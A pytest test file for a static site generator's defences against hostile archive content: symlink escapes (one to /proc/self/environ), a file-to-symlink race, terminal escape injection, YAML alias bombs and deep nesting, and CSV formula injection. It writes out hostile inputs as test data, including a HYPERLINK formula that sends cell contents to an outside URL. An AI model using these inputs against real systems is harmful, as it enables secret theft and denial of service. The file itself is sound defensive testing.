"""Hostile content (issue 9): nothing from outside the content folder is read or published,
nothing reaches the terminal that it would interpret, and every bad input is one clean
`path:line: message`, the same in `check` and `build`, with the previous output untouched.
"""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
import threading
import time
import unicodedata
from pathlib import Path

import pytest

from kaffee_site.cli import main
from support import TEMPLATES, Archive, session_md, tree_snapshot, picture_bytes, with_legal_pages

SECRET = "SECRET-h9a-7f3c"  # what an attacker wants CI to publish


@pytest.fixture(scope="module")
def good_built(tmp_path_factory) -> Path:
    """A good archive and its build (output and cache), made once: each test gets a copy of the
    whole folder, the state an editor's archive is in after a build."""
    built = Archive(tmp_path_factory.mktemp("good"))
    built.write("site.yaml", "title: Test\nbase_url: https://example.org/kaffee/\n")
    built.write("media/bild.png", picture_bytes())
    built.write("sessions/gut.md", session_md("Gute Sitzung", number=1, topics="[Open Data]",
                                              image="{src: media/bild.png, alt: Ein Bild}"))
    built.write("topics/open-data.md", "---\ntitle: Open Data\n---\nOffen.\n")
    built.write("pages/impressum.md", "---\ntitle: Impressum\n---\nNiemand.\n")
    with_legal_pages(built)
    code, err = built.build_quietly()
    assert code == 0, err
    return built.root


def _good_archive(archive: Archive, good_built: Path) -> dict[str, bytes]:
    """The good archive, built, in this test's folder: returns its output."""
    shutil.copytree(good_built, archive.root, symlinks=True, dirs_exist_ok=True)
    return tree_snapshot(archive.output)


def _check_and_build(archive: Archive, capsys) -> tuple[list[str], list[str]]:
    """Run `check`, then `build`; both must fail with exit 1 and no traceback.

    Returns the problem lines of each (check prints them on stdout, build on stderr)."""
    capsys.readouterr()
    assert main(archive.args("check", "--templates", str(TEMPLATES))) == 1
    checked = capsys.readouterr()
    assert archive.build() == 1
    built = capsys.readouterr()
    for text in (checked.out, checked.err, built.out, built.err):
        assert "Traceback" not in text
    return checked.out.splitlines(), built.err.splitlines()


def _assert_reported(archive: Archive, capsys, *expected: str) -> None:
    """Each expected `<path in content>:<line>: <message>` line is reported by check and by build."""
    before = tree_snapshot(archive.output) if archive.output.exists() else None
    checked, built = _check_and_build(archive, capsys)
    for want in expected:
        want = f"{archive.content}/{want}"
        assert want in checked, f"check did not report {want!r}:\n" + "\n".join(checked)
        assert want in built, f"build did not report {want!r}:\n" + "\n".join(built)
    if before is not None:
        assert tree_snapshot(archive.output) == before


def _published(archive: Archive) -> bytes:
    return b"\n".join(tree_snapshot(archive.output).values()) if archive.output.exists() else b""


# --- symbolic links ---------------------------------------------------------------------------

def _outside(tmp_path: Path) -> Path:
    """A folder next to the content with a secret file and a session that carries the secret."""
    outside = tmp_path / "outside"
    (outside / "sub").mkdir(parents=True)
    (outside / "secret.txt").write_text(SECRET + "\n")
    (outside / "sub" / "geheim.md").write_text(session_md("Geheim", body=SECRET))
    (outside / "sub" / "geheim.png").write_text(SECRET)
    return outside


@pytest.mark.parametrize("rel, target", [
    ("media/leak.txt", "secret.txt"),
    ("media/extra", "sub"),  # a folder inside media/
    ("media", "sub"),  # the whole media folder
    ("sessions/leak.md", "sub/geheim.md"),
    ("sessions/2024", "sub"),  # a folder of sessions
    ("topics/leak.md", "sub/geheim.md"),
    ("pages/leak.md", "sub/geheim.md"),
    ("site.yaml", "secret.txt"),
])
def test_a_link_that_leads_outside_is_refused_and_nothing_behind_it_is_read(
        archive: Archive, good_built: Path, capsys, tmp_path: Path, rel: str, target: str):
    before = _good_archive(archive, good_built)
    outside = _outside(tmp_path)
    link = archive.content / rel
    if link.is_dir():
        shutil.rmtree(link)
    elif link.exists():
        link.unlink()
    link.parent.mkdir(parents=True, exist_ok=True)
    link.symlink_to(outside / target)
    _assert_reported(archive, capsys,
                     f"{rel}: the symbolic link leads outside the content folder (to {outside / target})")
    assert tree_snapshot(archive.output) == before
    assert SECRET.encode() not in _published(archive)


def test_a_link_to_the_process_environment_is_refused_in_a_real_process(archive: Archive):
    archive.write("sessions/a.md", session_md("A"))
    (archive.content / "media").mkdir()
    (archive.content / "media" / "env.txt").symlink_to("/proc/self/environ")
    env = {"H9A_TOKEN": SECRET}
    for command in ("check", "build"):
        result = archive.run(command, "--templates", str(TEMPLATES), env=env)
        assert result.returncode == 1, result.stderr
        shown = result.stdout if command == "check" else result.stderr
        assert f"{archive.content}/media/env.txt: the symbolic link leads outside the content folder " \
               "(to /proc/self/environ)" in shown.splitlines()
        assert "Traceback" not in result.stderr
    assert not archive.output.exists()
    # the same archive without the link builds, and publishes nothing of the environment
    (archive.content / "media" / "env.txt").unlink()
    assert archive.run("build", "--templates", str(TEMPLATES), env=env).returncode == 0
    assert SECRET.encode() not in _published(archive)


@pytest.mark.parametrize("make, message", [
    (lambda c: (c / "media" / "weg.png").symlink_to(c / "media" / "gibt-es-nicht.png"),
     "media/weg.png: the symbolic link leads nowhere (to {content}/media/gibt-es-nicht.png)"),
    (lambda c: (c / "media" / "kreis.png").symlink_to("kreis.png"), "media/kreis.png: the symbolic link loops"),
    (lambda c: (c / "sessions" / "zurueck").symlink_to(".."),
     "sessions/zurueck: the symbolic link leads back into a folder that contains it"),
    (lambda c: (c / "sessions" / "schleife").symlink_to("."),
     "sessions/schleife: the symbolic link leads back into a folder that contains it"),
    (lambda c: ((c / ".git").mkdir(), (c / ".git" / "config").write_text(SECRET),
                (c / "media" / "config.txt").symlink_to(c / ".git" / "config")),
     "media/config.txt: the symbolic link leads to a hidden file or folder (to {content}/.git/config)"),
])
def test_broken_looping_and_hidden_links_are_refused(archive: Archive, good_built: Path, capsys, make, message: str):
    _good_archive(archive, good_built)
    make(archive.content)
    _assert_reported(archive, capsys, message.format(content=archive.content))
    assert SECRET.encode() not in _published(archive)


def test_a_link_that_stays_inside_the_content_folder_is_followed(archive: Archive, good_built: Path, capsys):
    _good_archive(archive, good_built)
    archive.write("media/2024/handout.pdf", b"pdf-bytes")
    (archive.content / "media" / "handout.pdf").symlink_to("2024/handout.pdf")
    archive.write("archiv/spaeter.md", session_md("Später", "2024-10-10", number=2))
    (archive.content / "sessions" / "spaeter.md").symlink_to("../archiv/spaeter.md")
    (archive.content / "sessions" / "alt").symlink_to("../archiv/alt")
    archive.write("archiv/alt/frueher.md", session_md("Früher", "2024-01-10"))
    assert main(archive.args("check", "--templates", str(TEMPLATES))) == 0
    assert archive.build() == 0
    assert (archive.output / "media" / "handout.pdf").read_bytes() == b"pdf-bytes"
    assert not (archive.output / "media" / "handout.pdf").is_symlink()
    assert "Später" in archive.page("sitzungen/spaeter/")
    assert "Früher" in archive.page("sitzungen/frueher/")


def test_a_file_swapped_for_a_link_while_builds_run_never_publishes_what_is_behind_it(archive: Archive,
                                                                                   good_built: Path,
                                                                                   tmp_path: Path):
    """A race on a shared runner: between the scan (which checks every link) and the read, a media
    file flips between a real file and a link to a secret outside, every 0.15 s. A media file is
    read when it is written, late in the build, so many builds list a file and later open a link.
    None may publish the secret; each ends with exit 0 or one line naming the file, no traceback."""
    _good_archive(archive, good_built)
    # Without the search index each of the 20+ builds costs a fifth less: Pagefind reads the
    # staged pages after the media are written, never a content file, so the race is the same
    archive.write("site.yaml", "title: Test\nbase_url: https://example.org/kaffee/\nsearch: false\n")
    secret = tmp_path / "outside" / "token.txt"
    secret.parent.mkdir()
    secret.write_text("GEHEIMNIS-TOKEN-4711\n")
    media = archive.content / "media" / "plan.pdf"
    archive.write("media/plan.pdf", b"PDF-bytes")
    stop = threading.Event()
    # The flip period follows this machine's speed: a fixed 0.15 s on a loaded runner means every
    # build meets a link and the race between scan and read is never run from a file.
    started = time.monotonic()
    assert archive.run("build", "--no-cache").returncode == 0
    period = max(0.15, 1.5 * (time.monotonic() - started))

    def flip() -> None:
        n = 0
        while not stop.wait(period):
            spare = media.with_name(f".plan.{n}")
            if n % 2:
                spare.write_bytes(b"PDF-bytes")
            else:
                spare.symlink_to(secret)
            os.replace(spare, media)  # atomic: the name is always a file or a link
            n += 1

    flipper = threading.Thread(target=flip, daemon=True)
    flipper.start()
    results = []
    try:
        # at least 20 builds, and on until both states were met (a build passes only when it found
        # a file at every look, so a run of failures can be long), at most 60
        while len(results) < 20 or ({r.returncode for r in results} != {0, 1} and len(results) < 60):
            results.append(archive.run("build", "--no-cache"))
            if archive.output.exists():
                assert not any(b"GEHEIMNIS" in p.read_bytes() for p in archive.output.rglob("*") if p.is_file())
    finally:
        stop.set()
        flipper.join()
    for result in results:
        assert "Traceback" not in result.stderr and "GEHEIMNIS" not in result.stderr
        assert result.returncode in (0, 1), result.stderr
        if result.returncode:
            assert result.stderr.startswith(str(media)), result.stderr
    assert {r.returncode for r in results} == {0, 1}  # both states were met


# --- control characters and what reaches the terminal ------------------------------------------

@pytest.mark.parametrize("rel, text, expected", [
    ("sessions/x.md", "---\ntitle: Rot\x1b[31m\ndate: 2024-09-05\n---\n",
     "sessions/x.md:2: the front matter contains the control character U+001B (ESC)"),
    ("sessions/x.md", '---\ndate: 2024-09-05\ntitle: "Rot\\e[31m"\n---\n',
     "sessions/x.md:3: the front matter contains the control character U+001B (ESC)"),
    ("sessions/x.md", '---\ndate: 2024-09-05\ntitle: "CSI \\x9b2J"\n---\n',
     "sessions/x.md:3: the front matter contains the control character U+009B (CSI)"),
    ("sessions/x.md", "---\ndate: 2024-09-05\ntitle: Null\x00\n---\n",
     "sessions/x.md:3: the front matter contains the control character U+0000 (NUL)"),
    ("sessions/x.md", "---\ndate: 2024-09-05\ntitle: Ende\x7f\n---\n",
     "sessions/x.md:3: the front matter contains the control character U+007F (DEL)"),
    ("sessions/x.md", "---\ntitle: A\ndate: 2024-09-05\nspeakers:\n  - name: Anna\n    org: \"Kreis\\a\"\n---\n",
     "sessions/x.md:6: the front matter contains the control character U+0007 (BEL)"),
    ("topics/t.md", "---\ntitle: T\nsummary: \"\\x1b]0;titel\\x07\"\n---\n",
     "topics/t.md:3: the front matter contains the control character U+001B (ESC)"),
    ("site.yaml", "title: Test\x1b[2J\n", "site.yaml:1: site.yaml contains the control character U+001B (ESC)"),
])
def test_a_control_character_in_front_matter_is_an_error_at_its_line(
        archive: Archive, good_built: Path, capsys, rel: str, text: str, expected: str):
    _good_archive(archive, good_built)
    archive.write(rel, text.encode("utf-8"))
    _assert_reported(archive, capsys, expected)
    if "\x1b[31m" in text:  # a tab is no control character to refuse
        archive.write(rel, text.replace("\x1b[31m", "\t(rot)"))
        assert archive.build() == 0


def test_nothing_a_terminal_interprets_reaches_it_from_a_file_name(archive: Archive, monkeypatch):
    monkeypatch.chdir(archive.root)
    archive.write("sessions/\x1b[31mrot\x9b2J.md", "---\ntitle: Rot\n---\nText\n")
    shown = "content/sessions/\\x1b[31mrot\\x9b2J.md"
    for command, extra, stream in (("check", (), "stdout"), ("check", ("--format", "github"), "stdout"),
                                   ("build", (), "stderr")):
        result = subprocess.run([sys.executable, "-m", "kaffee_site", command, "--content", "content",
                                 "--templates", str(TEMPLATES), *extra],
                                capture_output=True, cwd=archive.root)
        assert result.returncode == 1
        for raw in (result.stdout, result.stderr):
            assert b"\x1b" not in raw and "\x9b".encode() not in raw
        text = getattr(result, stream).decode()
        if extra:
            assert f"::error file={shown.replace(':', '%3A')},line=2,title=kaffee-site check::'date' is missing" \
                   "%0Ahint: add a line 'date: YYYY-MM-DD'" in text.splitlines()
        else:
            assert f"{shown}:2: 'date' is missing" in text.splitlines()


def test_a_file_name_that_is_not_utf8_is_an_error_not_a_crash(archive: Archive):
    archive.write("sessions/gut.md", session_md("Gut"))
    (archive.content / "sessions" / os.fsdecode(b"b\xfcse.md")).write_text(session_md("Böse"))
    result = archive.run("check", "--templates", str(TEMPLATES))
    assert result.returncode == 1
    assert f"{archive.content}/sessions/b\\xfcse.md: the file name is not valid UTF-8" in result.stdout.splitlines()
    assert "Traceback" not in result.stderr


# --- YAML that would blow up ----------------------------------------------------------------------

def _laughs(levels: int) -> str:
    """The "billion laughs": each line repeats the one before nine times (9**levels values)."""
    lines = ['a: &a ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]']
    for i in range(1, levels):
        name, prev = chr(ord("a") + i), chr(ord("a") + i - 1)
        lines.append(f"{name}: &{name} [{', '.join([f'*{prev}'] * 9)}]")
    return "\n".join(lines)


def test_alias_expansion_past_the_budget_is_an_error_at_its_line(archive: Archive, good_built: Path, capsys):
    _good_archive(archive, good_built)
    archive.write("sessions/x.md", f"---\ntitle: Lachen\ndate: 2024-09-05\n{_laughs(9)}\n---\n")
    # a = line 4 (9 values), b 81, c 729, d 6,561, e 59,049: the first past 20,000, on line 8
    _assert_reported(archive, capsys, "sessions/x.md:8: the front matter expands to more than 20,000 values")


def test_billion_laughs_stays_small_in_a_real_process_and_in_the_cache(archive: Archive):
    """Bounded: the process is given 1 GiB of address space; the expansion of 9**9 values would need
    far more. An aliased document under the budget is cached small (aliases stay shared)."""
    archive.write("sessions/x.md", f"---\ntitle: Lachen\ndate: 2024-09-05\n{_laughs(9)}\n---\n")
    archive.write("sessions/y.md", f"---\ntitle: Viel\ndate: 2024-09-06\n{_laughs(4)}\n---\nText\n")
    limit = "import resource; resource.setrlimit(resource.RLIMIT_AS, (1 << 30, 1 << 30)); "
    code = limit + "import sys; from kaffee_site.cli import main; sys.exit(main(sys.argv[1:]))"
    result = subprocess.run([sys.executable, "-c", code, *archive.args("build")], capture_output=True, text=True,
                            timeout=120)
    assert result.returncode == 1, result.stderr
    assert f"{archive.content}/sessions/x.md:8: the front matter expands to more than 20,000 values" \
           in result.stderr.splitlines()
    (archive.content / "sessions" / "x.md").unlink()
    result = subprocess.run([sys.executable, "-c", code, *archive.args("build")], capture_output=True, text=True,
                            timeout=120)
    assert result.returncode == 0, result.stderr
    cache = archive.root / ".kaffee-cache"
    assert cache.is_dir()
    assert sum(p.stat().st_size for p in cache.rglob("*") if p.is_file()) < 4 << 20


def test_an_alias_inside_its_own_anchor_is_an_error(archive: Archive, good_built: Path, capsys):
    _good_archive(archive, good_built)
    archive.write("sessions/x.md", "---\ntitle: Selbst\ndate: 2024-09-05\nliste: &l [1, *l]\n---\n")
    _assert_reported(archive, capsys, "sessions/x.md:4: the front matter has an alias that refers to itself")


@pytest.mark.parametrize("depth", [51, 998, 999])  # libyaml itself stops at 1000
def test_deep_nesting_is_an_error_never_a_recursion_error(archive: Archive, good_built: Path, capsys, depth: int):
    _good_archive(archive, good_built)
    archive.write("sessions/x.md", f"---\ntitle: Tief\ndate: 2024-09-05\nextra: {'[' * depth}{']' * depth}\n---\n")
    _assert_reported(archive, capsys, "sessions/x.md:4: the front matter is nested more than 50 levels deep")
    capsys.readouterr()
    assert main(archive.args("build", "--no-cache")) == 1
    assert "sessions/x.md:4: the front matter is nested more than 50 levels deep" in capsys.readouterr().err


def test_deep_block_nesting_names_the_line_where_it_gets_too_deep(archive: Archive, good_built: Path, capsys):
    _good_archive(archive, good_built)
    keys = "".join("  " * i + f"k{i}:\n" for i in range(60)) + "  " * 60 + "ende\n"
    archive.write("sessions/x.md", f"---\ntitle: Tief\ndate: 2024-09-05\n{keys}---\n")
    # the root mapping is level 1, k0's mapping level 2, ...: level 51 is the mapping under k49
    _assert_reported(archive, capsys, "sessions/x.md:54: the front matter is nested more than 50 levels deep")


def test_nesting_inside_the_limit_builds_and_past_libyamls_own_limit_is_its_error(archive: Archive, capsys):
    nested = "[" * 45 + "1" + "]" * 45
    archive.write("sessions/x.md", f"---\ntitle: Tief\ndate: 2024-09-05\nextra: {nested}\n---\nText\n")
    assert archive.build() == 0
    first = tree_snapshot(archive.output)
    assert archive.build() == 0  # from the cache
    assert tree_snapshot(archive.output) == first
    archive.write("sessions/x.md", f"---\ntitle: Tief\ndate: 2024-09-05\nextra: {'[' * 5000}\n---\n")
    _assert_reported(archive, capsys, "sessions/x.md:4: invalid YAML in the front matter: "
                                      "exceeded maximum nesting depth (while increasing flow level)")
    archive.write("sessions/x.md", f"---\ntitle: Tief\ndate: 2024-09-05\nextra: {'[' * 52}{']' * 52}\n---\n")
    _assert_reported(archive, capsys, "sessions/x.md:4: the front matter is nested more than 50 levels deep")


@pytest.mark.parametrize("rel, text, expected", [
    ("sessions/x.md", "---\ntitle: A\ndate: 2024-09-05\nspeakers:\n  - name: Anna\n    org: Kreis\n    name: Bo\n---\n",
     "sessions/x.md:7: the key 'name' appears twice"),
    ("sessions/x.md", "---\ntitle: A\ndate: 2024-09-05\nnext:\n  date: 2024-10-10\n  date: 2024-11-11\n---\n",
     "sessions/x.md:6: the key 'date' appears twice"),
    ("sessions/x.md", "---\ntitle: A\ndate: 2024-09-05\nimage: {src: media/bild.png, alt: a, alt: b}\n---\n",
     "sessions/x.md:4: the key 'alt' appears twice"),
    ("site.yaml", "title: Test\nsearch:\n  x: 1\n  x: 2\n", "site.yaml:4: the key 'x' appears twice"),
])
def test_duplicate_keys_are_errors_at_any_level(archive: Archive, good_built: Path, capsys, rel: str, text: str,
                                                expected: str):
    _good_archive(archive, good_built)
    archive.write(rel, text)
    _assert_reported(archive, capsys, expected)


# --- slugs and names ------------------------------------------------------------------------------

@pytest.mark.parametrize("rel, text, expected", [
    ("sessions/x.md", session_md(slug='"eins\\n"'), "sessions/x.md:4: the slug 'eins\\n' is not allowed"),
    ("pages/x.md", '---\ntitle: X\nslug: "kontakt\\n"\n---\n', "pages/x.md:3: the slug 'kontakt\\n' is not allowed"),
    ("topics/t.md", '---\ntitle: T\nredirect_from:\n  - "alt\\n"\n---\n',
     "topics/t.md:4: the old slug 'alt\\n' is not allowed"),
])
def test_a_slug_with_a_hidden_character_is_refused(archive: Archive, good_built: Path, capsys, rel: str, text: str,
                                                   expected: str):
    _good_archive(archive, good_built)
    archive.write(rel, text)
    _assert_reported(archive, capsys, expected)


LONG = "Sehr " * 60  # 300 bytes: more than a file name can hold


@pytest.mark.parametrize("rel, text, expected", [
    ("sessions/x.md", session_md(topics=f"[{LONG.strip()}]"),
     f"sessions/x.md:4: '{LONG[:57]}…' is too long for an address: its slug has 299 bytes, a file name at most 255"),
    ("sessions/x.md", session_md(speakers=f"\n  - name: {LONG.strip()}\n    org: Kreis"),
     f"sessions/x.md:5: '{LONG[:57]}…' is too long for an address: its slug has 299 bytes, a file name at most 255"),
    ("sessions/x.md", session_md(speakers=f"\n  - name: Anna\n    org: {LONG.strip()}"),
     f"sessions/x.md:6: '{LONG[:57]}…' is too long for an address: its slug has 299 bytes, a file name at most 255"),
    ("sessions/x.md", session_md(slug="a" * 256),
     f"sessions/x.md:4: '{'a' * 57}…' is too long for an address: its slug has 256 bytes, a file name at most 255"),
    ("topics/t.md", f"---\ntitle: T\nredirect_from: [{'b' * 300}]\n---\n",
     f"topics/t.md:3: '{'b' * 57}…' is too long for an address: its slug has 300 bytes, a file name at most 255"),
    ("sessions/x.md", session_md(image=f"{{src: media/{'ö' * 130}.png, alt: Bild}}"),
     "sessions/x.md:4: the image name is longer than a file name can be (255 bytes)"),
])
def test_a_name_the_file_system_cannot_hold_is_an_error_at_its_line(
        archive: Archive, good_built: Path, capsys, rel: str, text: str, expected: str):
    _good_archive(archive, good_built)
    archive.write(rel, text)
    _assert_reported(archive, capsys, expected)


# --- unreadable files and folders ------------------------------------------------------------------

def _as_unprivileged(archive: Archive, command: str) -> subprocess.CompletedProcess:
    """Run the command so that file permissions hold: root reads everything through the
    capabilities CAP_DAC_OVERRIDE and CAP_DAC_READ_SEARCH, so as root they are dropped from the
    bounding set (setpriv), which keeps the user (the test files stay its own) but not the bypass."""
    args = [sys.executable, "-m", "kaffee_site", *archive.args(command, "--templates", str(TEMPLATES))]
    if os.geteuid() == 0:
        if shutil.which("setpriv") is None:
            pytest.skip("running as root without setpriv (util-linux): root reads files whatever their mode")
        args = ["setpriv", "--bounding-set=-dac_override,-dac_read_search", *args]
    return subprocess.run(args, capture_output=True, text=True, cwd=archive.root)


@pytest.mark.parametrize("rel, message", [  # (an unreadable session file was reported before issue 9)
    ("sessions/2024", "sessions/2024: cannot read the folder: Permission denied"),
    ("topics", "topics: cannot read the folder: Permission denied"),
    ("media/bild.png", "media/bild.png: cannot read the file: Permission denied"),
    ("media", "media: cannot read the folder: Permission denied"),
    ("site.yaml", "site.yaml: cannot read the file: Permission denied"),
])
def test_an_unreadable_file_or_folder_is_an_error_naming_it(archive: Archive, good_built: Path, rel: str, message: str):
    before = _good_archive(archive, good_built)
    archive.write("sessions/x.md", session_md("X", "2024-10-10"))
    archive.write("sessions/2024/y.md", session_md("Y", "2024-11-11"))
    target = archive.content / rel
    target.chmod(0)
    try:
        for command, stream in (("check", "stdout"), ("build", "stderr")):
            result = _as_unprivileged(archive, command)
            assert result.returncode == 1, (result.stdout, result.stderr)
            assert "Traceback" not in result.stderr
            assert f"{archive.content}/{message}" in getattr(result, stream).splitlines()
    finally:
        target.chmod(0o755 if target.is_dir() else 0o644)
    assert tree_snapshot(archive.output) == before


# --- Unicode: one form for text and file names -------------------------------------------------------

def _nfd(text: str) -> str:
    return unicodedata.normalize("NFD", text)


def test_a_name_typed_on_macos_and_on_linux_is_one_person(archive: Archive):
    name = "Jörg Müller"
    assert _nfd(name) != name
    archive.write("sessions/a.md", session_md("A", "2024-09-05", speakers=f"[{{name: {_nfd(name)}, org: Kreis Föhr}}]",
                                              topics=f"[{_nfd('Fördermittel')}]"))
    archive.write("sessions/b.md", session_md("B", "2024-10-10", speakers=f"[{{name: {name}, org: {_nfd('Kreis Föhr')}}}]",
                                              topics="[Fördermittel]"))
    assert archive.build() == 0
    people = sorted(p.name for p in (archive.output / "personen").iterdir() if p.is_dir())
    assert people == ["joerg-mueller"]
    page = archive.page("personen/joerg-mueller/")
    assert page.count("sitzungen/a/") >= 1 and page.count("sitzungen/b/") >= 1
    assert _nfd(name) not in page and name in page
    assert sorted(p.name for p in (archive.output / "organisationen").iterdir() if p.is_dir()) == ["kreis-foehr"]
    assert sorted(p.name for p in (archive.output / "themen").iterdir() if p.is_dir()) == ["foerdermittel"]
    assert _nfd("Fördermittel").encode() not in _published(archive)


def test_file_names_saved_decomposed_are_known_by_their_composed_name(archive: Archive, capsys):
    with_legal_pages(archive)
    archive.write(f"sessions/{_nfd('jörg-bericht')}.md", session_md("Bericht", image="{src: media/bild-ö.png, alt: Bild}",
                                                                  body="![Karte](media/karte-ü.svg)"))
    archive.write(f"media/{_nfd('bild-ö.png')}", picture_bytes())
    archive.write(f"media/{_nfd('karte-ü.svg')}", b"<svg xmlns='http://www.w3.org/2000/svg'/>")
    assert main(archive.args("check", "--templates", str(TEMPLATES))) == 0, capsys.readouterr().out
    assert archive.build() == 0
    assert "Bericht" in archive.page("sitzungen/joerg-bericht/")
    made = sorted(p.name for p in (archive.output / "media").iterdir())
    assert [name for name in made if name.startswith("bild-ö-8.")] and (archive.output / "media" / "karte-ü.svg").is_file()
    assert not [name for name in made if _nfd("ö") in name or _nfd("ü") in name]


def test_two_files_whose_names_differ_only_in_unicode_form_are_an_error(archive: Archive, good_built: Path, capsys):
    _good_archive(archive, good_built)
    archive.write("media/bild-ö.png", picture_bytes())
    archive.write(f"media/{_nfd('bild-ö.png')}", picture_bytes(colour=(0, 0, 0)))
    _assert_reported(archive, capsys, "media/bild-ö.png: two files have this name once their Unicode is normalised")


# (media that run scripts on the archive's origin: tests/test_active_media.py)


# --- open data: no spreadsheet formulas -------------------------------------------------------------

def test_csv_cells_that_would_be_formulas_are_neutralised_and_the_json_keeps_them(archive: Archive):
    import csv
    import io
    import json

    title = '=HYPERLINK("https://example.org/?d="&A1;"Klick")'
    archive.write("sessions/a.md", session_md(
        "'" + title.replace("'", "''") + "'", series="'+Serie'", topics="['@SUMME(1)', Open Data, '-2+3']",
        speakers="[{name: '=Anna', org: '@Kreis'}, {name: Bo, org: '+49 Amt'}]"))
    archive.write("sessions/b.md", session_md("Normal; =1+1", "2024-10-10"))
    assert archive.build() == 0
    raw = (archive.output / "daten" / "sessions.csv").read_bytes().decode("utf-8")
    rows = list(csv.DictReader(io.StringIO(raw, newline="")))
    assert rows[0]["title"] == "'" + title
    assert rows[0]["series"] == "'+Serie"
    assert rows[0]["topics"] == "'@SUMME(1); Open Data; '-2+3"
    assert rows[0]["speakers"] == "'=Anna; Bo"
    assert rows[0]["organisations"] == "'@Kreis; '+49 Amt"
    assert rows[1]["title"] == "Normal; =1+1"
    assert '"Normal; =1+1"' in raw  # quoted: a spreadsheet that splits at ';' keeps it one cell
    for row in csv.reader(io.StringIO(raw, newline="")):
        for cell in row:
            for part in cell.split(";"):
                assert not part.startswith(("=", "+", "-", "@", "\t", "\r")), (cell, part)
    data = json.loads((archive.output / "daten" / "sessions.json").read_text(encoding="utf-8"))
    first = data["sessions"][0]
    assert first["title"] == title and first["series"] == "+Serie"
    assert first["topics"] == ["@SUMME(1)", "Open Data", "-2+3"]
    assert first["speakers"] == [{"name": "=Anna", "org": "@Kreis"}, {"name": "Bo", "org": "+49 Amt"}]


def test_init_prints_a_folder_name_with_controls_escaped(archive: Archive):
    result = subprocess.run([sys.executable, "-m", "kaffee_site", "init", "neu\x1b[2J"], capture_output=True,
                            cwd=archive.root)
    assert result.returncode == 0, result.stderr
    assert b"\x1b" not in result.stdout + result.stderr
    assert result.stdout.decode().splitlines()[0] == "new archive in neu\\x1b[2J:"


def test_a_fifo_in_the_content_folder_is_an_error_not_a_hang(archive: Archive, good_built: Path, capsys):
    _good_archive(archive, good_built)
    os.mkfifo(archive.content / "media" / "rohr.png")
    os.mkfifo(archive.content / "sessions" / "rohr.md")
    _assert_reported(archive, capsys, "media/rohr.png: this is neither a file nor a folder",
                     "sessions/rohr.md: this is neither a file nor a folder")


def test_a_newline_in_a_file_name_cannot_fake_a_line_of_its_own(archive: Archive, good_built: Path, capsys):
    _good_archive(archive, good_built)
    archive.write("sessions/x.md\ncontent/sessions/gut.md:1: alles gut.md", "---\ntitle: X\n---\n")
    checked, built = _check_and_build(archive, capsys)
    want = f"{archive.content}/sessions/x.md\\ncontent/sessions/gut.md:1: alles gut.md:2: 'date' is missing"
    assert want in checked and want in built
    assert not any(line.startswith("content/") for line in checked + built)
